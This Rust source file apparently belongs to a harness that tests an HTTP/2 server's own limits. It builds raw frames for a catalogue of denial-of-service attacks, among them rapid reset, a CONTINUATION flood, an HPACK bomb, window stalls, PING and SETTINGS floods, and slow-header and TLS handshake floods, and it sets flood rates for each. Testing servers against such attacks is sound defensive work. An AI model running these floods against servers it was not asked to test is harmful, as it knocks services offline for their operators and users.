//! The attacks: how a connection begins, and what is sent on it repeatedly.
//!
//! Each row is an attack with a name, or one that a limit of ours is for. Frames are written by hand, because no proper client sends them.

use crate::h2_load::frame;
use crate::origin;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

const INITIAL_WINDOW_SIZE: u16 = 4;

/// The object for attacks that need a hit; it is fetched beforehand.
pub const HIT_BYTES: u64 = 100_000;
pub const HIT_ID: &str = "attacked";

/// How a connection begins.
#[derive(Debug, Clone, Copy)]
pub enum Opening {
    /// With the preface and these settings.
    Http2(&'static [(u16, u32)]),
    /// With the first bytes of a preface.
    HalfPreface,
    /// Over TLS, with a ClientHello and nothing after it.
    Hello,
    /// Over TLS, with a whole handshake, after which it is closed.
    Handshake,
}

/// An attack.
#[derive(Clone, Copy)]
pub struct Attack {
    pub name: &'static str,
    pub opening: Opening,
    /// The bytes of the n-th round on a connection. Empty: the connection is held, and another one is opened.
    pub round: fn(u32) -> Vec<u8>,
    /// Rounds a second, over all connections.
    pub rounds_per_s: u32,
}

/// Frames a second of a flood: three to ten megabits a second, the uplink of a household.
const FLOOD: u32 = 10_000;
/// Connections opened a second.
const OPENED: u32 = 100;

const NO_SETTINGS: Opening = Opening::Http2(&[]);
const ZERO_WINDOW: Opening = Opening::Http2(&[(INITIAL_WINDOW_SIZE, 0)]);
const ONE_BYTE_WINDOW: Opening = Opening::Http2(&[(INITIAL_WINDOW_SIZE, 1)]);

/// All attacks.
pub static ALL: &[Attack] = &[
    Attack {
        //= CVE-2023-44487
        name: "rapid reset",
        opening: NO_SETTINGS,
        round: |n| [miss(n), reset(stream(n))].concat(),
        rounds_per_s: FLOOD,
    },
    Attack {
        //= CVE-2025-8671
        name: "made to reset",
        opening: NO_SETTINGS,
        round: |n| [miss(n), word(WINDOW_UPDATE, stream(n), 0)].concat(),
        rounds_per_s: FLOOD,
    },
    Attack {
        name: "malformed requests",
        opening: NO_SETTINGS,
        round: |n| {
            framed(
                HEADERS,
                END_STREAM | END_HEADERS,
                stream(n),
                &head("GET", "no-slash"),
            )
        },
        rounds_per_s: FLOOD,
    },
    Attack {
        //= CVE-2024-27316
        name: "CONTINUATION",
        opening: NO_SETTINGS,
        round: |n| match n {
            0 => framed(HEADERS, END_STREAM, 1, &head("GET", "/")),
            _ => framed(CONTINUATION, 0, 1, b"\0\x01a\x01b"),
        },
        rounds_per_s: FLOOD,
    },
    Attack {
        //= CVE-2016-6581
        name: "HPACK bomb",
        opening: NO_SETTINGS,
        round: |n| framed(HEADERS, END_STREAM | END_HEADERS, stream(n), &bomb()),
        // Rounds of 16 KiB each.
        rounds_per_s: 500,
    },
    Attack {
        name: "large heads",
        opening: NO_SETTINGS,
        round: |n| framed(HEADERS, END_STREAM | END_HEADERS, stream(n), &large_head(n)),
        rounds_per_s: 500,
    },
    Attack {
        //= CVE-2019-9517
        name: "window stall",
        opening: ZERO_WINDOW,
        round: |n| if n < 100 { hit(n) } else { Vec::new() },
        rounds_per_s: FLOOD,
    },
    Attack {
        name: "streams without end",
        opening: ZERO_WINDOW,
        round: hit,
        rounds_per_s: FLOOD,
    },
    Attack {
        //= CVE-2019-9511
        name: "one-byte windows",
        opening: ONE_BYTE_WINDOW,
        round: |n| match n {
            0 => hit(0),
            _ => word(WINDOW_UPDATE, 1, 1),
        },
        rounds_per_s: FLOOD,
    },
    Attack {
        //= CVE-2019-9512
        name: "PING",
        opening: NO_SETTINGS,
        round: |_| framed(PING, 0, 0, &[0; 8]),
        rounds_per_s: FLOOD,
    },
    Attack {
        //= CVE-2019-9515
        name: "SETTINGS",
        opening: NO_SETTINGS,
        round: |_| framed(SETTINGS, 0, 0, &[]),
        rounds_per_s: FLOOD,
    },
    Attack {
        //= CVE-2019-9513
        name: "PRIORITY",
        opening: NO_SETTINGS,
        round: |_| framed(PRIORITY, 0, 1, &[0, 0, 0, 3, 0]),
        rounds_per_s: FLOOD,
    },
    Attack {
        name: "WINDOW_UPDATE",
        opening: NO_SETTINGS,
        round: |_| word(WINDOW_UPDATE, 0, 1),
        rounds_per_s: FLOOD,
    },
    Attack {
        //= CVE-2019-9518
        name: "empty DATA",
        opening: NO_SETTINGS,
        round: |n| match n {
            0 => post(),
            _ => framed(DATA, 0, 1, &[]),
        },
        rounds_per_s: FLOOD,
    },
    Attack {
        name: "small DATA",
        opening: NO_SETTINGS,
        round: |n| match n {
            0 => post(),
            _ => framed(DATA, 0, 1, &[0]),
        },
        rounds_per_s: FLOOD,
    },
    Attack {
        name: "slow heads",
        opening: NO_SETTINGS,
        round: |n| match n {
            0 => framed(HEADERS, END_STREAM, 1, &head("GET", "/")),
            _ => Vec::new(),
        },
        rounds_per_s: FLOOD,
    },
    Attack {
        name: "slow preface",
        opening: Opening::HalfPreface,
        round: |_| Vec::new(),
        rounds_per_s: OPENED,
    },
    Attack {
        name: "TLS, stopped after the hello",
        opening: Opening::Hello,
        round: |_| Vec::new(),
        rounds_per_s: OPENED,
    },
    Attack {
        name: "TLS handshakes",
        opening: Opening::Handshake,
        round: |_| Vec::new(),
        rounds_per_s: OPENED,
    },
];

fn stream(n: u32) -> u32 {
    2 * n + 1
}

fn framed(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(9 + payload.len());
    frame(kind, flags, stream, payload, &mut out);
    out
}

fn word(kind: u8, stream: u32, word: u32) -> Vec<u8> {
    framed(kind, 0, stream, &word.to_be_bytes())
}

/// RST_STREAM with CANCEL.
fn reset(stream: u32) -> Vec<u8> {
    word(RST_STREAM, stream, 8)
}

/// A literal field without indexing and without Huffman coding.
fn literal(name: &str, value: &str, out: &mut Vec<u8>) {
    out.push(0);
    for text in [name, value] {
        out.push(u8::try_from(text.len()).expect("short texts"));
        out.extend_from_slice(text.as_bytes());
    }
}

fn head(method: &str, path: &str) -> Vec<u8> {
    let mut block = Vec::new();
    literal(":method", method, &mut block);
    literal(":scheme", "http", &mut block);
    literal(":authority", "a.example", &mut block);
    literal(":path", path, &mut block);
    block
}

fn get(n: u32, path: &str) -> Vec<u8> {
    framed(
        HEADERS,
        END_STREAM | END_HEADERS,
        stream(n),
        &head("GET", path),
    )
}

/// A request whose answer may not be stored.
fn miss(n: u32) -> Vec<u8> {
    get(n, &origin::passing_path(1000, &n.to_string()))
}

fn hit(n: u32) -> Vec<u8> {
    get(n, &origin::path(HIT_BYTES, HIT_ID))
}

fn post() -> Vec<u8> {
    framed(HEADERS, END_HEADERS, 1, &head("POST", "/size/10/post"))
}

/// An entry of 4,000 bytes, referenced as often as a frame has room.
fn bomb() -> Vec<u8> {
    let mut block = head("GET", "/");
    block.extend_from_slice(&[0x40, 1, b'a', 0x7f, 0xa1, 0x1e]);
    block.extend_from_slice(&[b'x'; 4000]);
    block.resize(16_384, 0xbe);
    block
}

/// A header section just below the limit, different each time.
fn large_head(n: u32) -> Vec<u8> {
    let mut block = head("GET", &origin::path(1000, "hot"));
    for field in 0..100 {
        literal(
            "x-field",
            &format!("{n}-{field}-{}", "v".repeat(120)),
            &mut block,
        );
    }
    block
}
